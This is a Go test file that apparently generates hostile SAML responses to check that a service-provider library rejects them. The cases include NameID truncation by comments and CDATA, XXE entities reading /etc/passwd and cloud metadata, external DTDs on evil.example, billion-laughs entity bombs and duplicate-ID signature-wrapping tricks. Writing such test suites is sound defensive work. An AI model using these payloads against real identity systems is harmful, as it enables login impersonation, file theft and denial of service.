package samltest

import (
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"github.com/sallyport-auth/sallyport/internal/samlsp"
)

// comments: V40, T87. The provider signs a name that the attacker registered,
// and a reader that stops at the first piece of text takes another. Exclusive
// canonicalisation leaves comments out, so the signature stays good.
func (m *maker) comments() {
	const registered = victim + ".evil.example"
	split := func(name, comment, with string) *Case {
		return m.add(name, comment, func(r *Response) {
			r.Assertion.NameID.Value = registered
			r.Text = append(r.Text, func(s string) string {
				return strings.Replace(s, registered, victim+with+".evil.example", 1)
			})
		}, samlsp.Comment)
	}
	split("comment in NameID", "CVE-2026-40165: the name ends at a comment for some", "<!---->")
	split("comment with markup in NameID", "the same, with what looks like an end", "<!--</saml:NameID>-->")
	cdata := split("CDATA in NameID", "T87: text in another form", "<![CDATA[]]>")
	cdata.Reasons = append(cdata.Reasons, samlsp.BadXML, samlsp.WrongStructure)
	cdata.orNameID(registered)
	m.add("all CDATA", "T87: the whole name as CDATA", func(r *Response) {
		r.Text = append(r.Text, func(s string) string {
			return strings.Replace(s, ">ada@partner.example</saml:NameID>", "><![CDATA[ada@partner.example]]></saml:NameID>", 1)
		})
	}, samlsp.Comment, samlsp.BadXML, samlsp.WrongStructure).orNameID("ada@partner.example")
	value := func(name, comment string, change func(t *Tree)) { m.tree(name, comment, change, samlsp.Comment) }
	value("instruction in NameID", "the name ends at a processing instruction for some; it is signed", func(t *Tree) {
		e := Find(t.Assertion, ".//NameID")
		e.SetText(victim)
		e.CreateProcInst("x", "y")
		e.CreateText(".evil.example")
	})
	value("comment in an attribute", "T87: a value ends at a comment for some", func(t *Tree) {
		e := Find(t.Assertion, ".//Attribute[@Name='groups']/AttributeValue")
		e.SetText("administrators")
		e.CreateComment("")
		e.CreateText("-of-nothing")
	})
	value("comment in Audience", "another audience that ends at a comment for some", func(t *Tree) {
		e := Find(t.Assertion, ".//Audience")
		e.CreateComment("")
		e.CreateText(".evil.example")
	})
	value("comment in Issuer", "another issuer that ends at a comment for some", func(t *Tree) {
		for _, e := range t.Response.FindElements(".//Issuer") {
			e.CreateComment("")
			e.CreateText(".evil.example")
		}
	})
	value("comment between elements", "no comment may be anywhere", func(t *Tree) { t.Assertion.CreateComment("x") })
	m.add("comment before the root", "no comment may be anywhere", func(r *Response) {
		r.Text = append(r.Text, func(s string) string { return "<!-- x -->" + s })
	}, samlsp.Comment)
	m.add("style sheet", "an instruction that fetches a style sheet", func(r *Response) {
		r.Text = append(r.Text, func(s string) string {
			return `<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>` + s
		})
	}, samlsp.Comment)
	m.tree("element in NameID", "T87: mixed content, of which some read a part", func(t *Tree) {
		e := Find(t.Assertion, ".//NameID")
		e.SetText(victim)
		e.CreateElement("saml:x")
		e.CreateText(".evil.example")
	}, samlsp.WrongStructure, samlsp.BadNameID, samlsp.NoSubject)
	c := m.tree("element in an attribute value", "T87: mixed content, of which some read a part", func(t *Tree) {
		e := Find(t.Assertion, ".//Attribute[@Name='groups']/AttributeValue")
		e.SetText("administrators")
		e.CreateElement("saml:x")
		e.CreateText("-of-nothing")
	}, samlsp.WrongStructure)
	c.Or = func(a samlsp.Assertion) bool {
		for _, group := range a.Attributes["groups"] {
			if group == "administrators" || group == "-of-nothing" {
				return false
			}
		}
		return true
	}
}

// doctypes: V30, V38, T89. The assertion is signed and would be good.
func (m *maker) doctypes() {
	front := func(name, comment, text string, reasons ...samlsp.Reason) {
		m.add(name, comment, func(r *Response) {
			r.Text = append(r.Text, func(s string) string { return text + s })
		}, append(reasons, samlsp.Doctype)...)
	}
	front("DOCTYPE alone", "T89: no entity, crewjam/saml accepts it", `<!DOCTYPE Response>`)
	front("DOCTYPE with an entity", "T89: an entity that nobody uses", `<!DOCTYPE x [<!ENTITY e "x">]>`)
	front("DOCTYPE, external", "T89: a definition on the attacker's host", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`)
	front("DOCTYPE, public", "T89: a definition by public name", `<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/x.dtd">`)
	front("DOCTYPE, parameter entity", "T89: an entity inside the definition", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`)
	front("DOCTYPE, ATTLIST", "V38: the definition makes another attribute the ID, and sets one", `<!DOCTYPE x [<!ATTLIST saml:Assertion Evil ID #FIXED "_x">]>`)
	front("DOCTYPE, lower case", "T89: for readers that ignore case", `<!doctype x>`, samlsp.BadXML)
	front("DOCTYPE after a declaration", "T89: a line later", "<?xml version=\"1.0\"?>\n<!DOCTYPE x>\n")
	front("ENTITY without DOCTYPE", "a definition outside of any document type", `<!ENTITY e "x">`, samlsp.BadXML)
	m.add("DOCTYPE inside", "T89: a document type in the middle", func(r *Response) {
		r.Text = append(r.Text, func(s string) string { return strings.Replace(s, "<samlp:Status>", "<!DOCTYPE x><samlp:Status>", 1) })
		onlyAssertion(r)
	}, samlsp.Doctype, samlsp.BadXML)
	m.add("DOCTYPE behind", "T89: a document type after the end", func(r *Response) {
		r.Text = append(r.Text, func(s string) string { return s + "<!DOCTYPE x>" })
	}, samlsp.Doctype, samlsp.BadXML)

	used := func(name, comment, definition, reference string, reasons ...samlsp.Reason) {
		m.add(name, comment, func(r *Response) {
			r.Text = append(r.Text, func(s string) string {
				return definition + strings.Replace(s, "ada@partner.example</saml:NameID>", reference+"</saml:NameID>", 1)
			})
		}, reasons...)
	}
	used("entity in NameID", "T87: the name is an entity of the document", `<!DOCTYPE x [<!ENTITY e "ada@partner.example">]>`, "&e;", samlsp.Doctype)
	used("unknown entity", "T87: an entity that nobody defined", "", "ada&evil;@partner.example", samlsp.Doctype, samlsp.BadXML)
	used("HTML entity", "an entity of HTML, which XML does not have", "", "ada&commat;partner.example", samlsp.Doctype, samlsp.BadXML)
	used("XXE, file", "T89: a file of the server", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "&e;", samlsp.Doctype)
	used("XXE, address", "T89: an address inside", `<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data">]>`, "&e;", samlsp.Doctype)
	m.add("ID by entity", "T78: the assertion's ID is an entity of the document", func(r *Response) {
		onlyAssertion(r)
		r.Text = append(r.Text, func(s string) string {
			return `<!DOCTYPE x [<!ENTITY e "` + r.Assertion.ID + `">]>` + strings.Replace(s, ` ID="`+r.Assertion.ID+`"`, ` ID="&e;"`, 1)
		})
	}, samlsp.Doctype)
	m.add("ID by default", "V38: the assertion's ID is a default of the document type", func(r *Response) {
		onlyAssertion(r)
		r.Text = append(r.Text, func(s string) string {
			return `<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID "` + r.Assertion.ID + `">]>` + strings.Replace(s, ` ID="`+r.Assertion.ID+`"`, ``, 1)
		})
	}, samlsp.Doctype)
	laughs := &strings.Builder{}
	laughs.WriteString(`<!DOCTYPE x [<!ENTITY l0 "ha">`)
	for i := 1; i < 20; i++ {
		fmt.Fprintf(laughs, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	used("billion laughs", "T89: entities of entities", laughs.String()+"]>", "&l19;", samlsp.Doctype)
	used("quadratic laughs", "T89: one long entity, many times",
		`<!DOCTYPE x [<!ENTITY e "`+strings.Repeat("ha", 20_000)+`">]>`, strings.Repeat("&e;", 20_000), samlsp.Doctype)
}

// identifiers: T78. What is added is signed.
func (m *maker) identifiers() {
	other := func(name string, of func(*Tree) *etree.Element, key string) {
		m.tree(name, "T78: an identifier in another spelling beside the ID: readers differ in which one counts", func(t *Tree) {
			of(t).CreateAttr(key, "_evil")
		}, samlsp.DuplicateID, samlsp.BadNamespace, samlsp.WrongStructure)
	}
	assertion := func(t *Tree) *etree.Element { return t.Assertion }
	response := func(t *Tree) *etree.Element { return t.Response }
	for _, key := range []string{"Id", "id", "iD", "xml:id", "samlp:ID", "saml:ID"} {
		other(key+" of the assertion", func(t *Tree) *etree.Element {
			t.Response.CreateAttr("xmlns:saml", AssertionNS)
			return assertion(t)
		}, key)
		other(key+" of the response", func(t *Tree) *etree.Element {
			t.Response.CreateAttr("xmlns:saml", AssertionNS)
			return response(t)
		}, key)
	}
	instead := func(name, key string) {
		m.tree(name, "T78: the assertion's ID in another spelling", func(t *Tree) {
			id := t.Assertion.SelectAttrValue("ID", "")
			t.Assertion.CreateAttr(key, id)
		}, samlsp.DuplicateID, samlsp.WrongStructure, samlsp.BadReference)
	}
	instead("same in Id", "Id")
	instead("same in xml:id", "xml:id")
	same := func(name string, of func(*Tree) *etree.Element, id func(*Tree) string) {
		m.tree(name, "T78: one ID twice", func(t *Tree) { of(t).CreateAttr("ID", id(t)) }, samlsp.DuplicateID, samlsp.WrongStructure)
	}
	assertionID := func(t *Tree) string { return t.Assertion.SelectAttrValue("ID", "") }
	responseID := func(t *Tree) string { return t.Response.SelectAttrValue("ID", "") }
	same("ID of the assertion on its Subject", func(t *Tree) *etree.Element { return Find(t.Assertion, "./Subject") }, assertionID)
	same("ID of the assertion on Status", func(t *Tree) *etree.Element { return Find(t.Response, "./Status") }, assertionID)
	same("ID of the response on Subject", func(t *Tree) *etree.Element { return Find(t.Assertion, "./Subject") }, responseID)
	same("one ID for both", assertion, responseID)
	m.tree("no ID on the assertion", "T78: an assertion without an ID cannot be signed, nor remembered", func(t *Tree) {
		t.Assertion.RemoveAttr("ID")
	}, samlsp.BadReference, samlsp.WrongStructure, samlsp.DuplicateID, samlsp.BadXML)
	m.tree("empty ID on the assertion", "T78: the empty ID makes the empty reference", func(t *Tree) {
		t.Assertion.CreateAttr("ID", "")
	}, samlsp.BadReference, samlsp.WrongStructure, samlsp.DuplicateID, samlsp.BadXML)
	double := func(name, old, with string) {
		m.add(name, "V39: an attribute twice, of which readers take the first or the last; no XML at all", func(r *Response) {
			r.Text = append(r.Text, func(s string) string { return strings.Replace(s, old, old+" "+with, 1) })
		}, samlsp.BadXML, samlsp.DuplicateID)
	}
	double("ID twice", `Version="2.0"`, `ID="_evil"`)
	double("Version twice", `Version="2.0"`, `Version="2.0"`)
	double("Destination twice", `Destination="`+m.sp.ACS+`"`, `Destination="`+m.sp.ACS+`"`)
	double("Recipient twice", `Recipient="`+m.sp.ACS+`"`, `Recipient="https://other.example/acs"`)
}
